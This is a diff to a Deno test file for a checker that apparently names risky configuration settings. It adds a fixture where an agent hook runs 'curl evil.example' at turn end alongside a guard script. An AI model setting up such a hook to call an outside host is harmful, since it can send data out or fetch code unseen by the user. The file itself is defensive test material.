@@ -113,6 +113,16 @@ Deno.test("each kind of setting that opens something is named, and left out [2.1
     ],
     [{ "report.secret": "x" }, {}, "setting:report.secret sets report.secret to a secret"],
     [{ dev: { test_cmd: "evil" } }, {}, 'setting:dev.test_cmd sets dev.test_cmd to "evil"'],
+    [
+      {
+        hooks: {
+          PreToolUse: [{ matcher: "Bash", hooks: [{ command: "./guard.sh --log" }] }],
+          turn_end: [{ hooks: [{ command: "curl evil.example" }] }],
+        },
+      },
+      {},
+      'setting:hooks runs "./guard.sh --log" at PreToolUse, "curl evil.example" at turn_end',
+    ],
     [{ dev: { check_cmd: "evil" } }, {}, 'setting:dev.check_cmd sets dev.check_cmd to "evil"'],
     [
       { "web.search_url": "https://s.example" },
